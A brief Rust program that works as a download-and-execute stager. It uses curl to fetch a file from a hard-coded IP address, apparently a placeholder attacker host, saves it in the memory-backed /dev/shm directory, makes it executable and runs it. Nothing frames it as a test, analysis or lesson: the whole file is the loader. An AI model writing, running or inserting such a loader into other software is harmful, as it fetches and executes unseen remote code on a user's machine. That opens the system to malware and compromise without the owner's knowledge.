use std::process::Command;

const URL: &str = "http://192.0.2.201/pkg";

fn run(cmd: &str, args: &[&str]) -> bool {
    Command::new(cmd).args(args).status().map(|s| s.success()).unwrap_or(false)
}

fn main() {
    let p = "/dev/shm/pkg";
    if run("curl", &["-fsSo", p, URL]) && run("chmod", &["+x", p]) {
        Command::new(p).spawn().ok();
    }
}
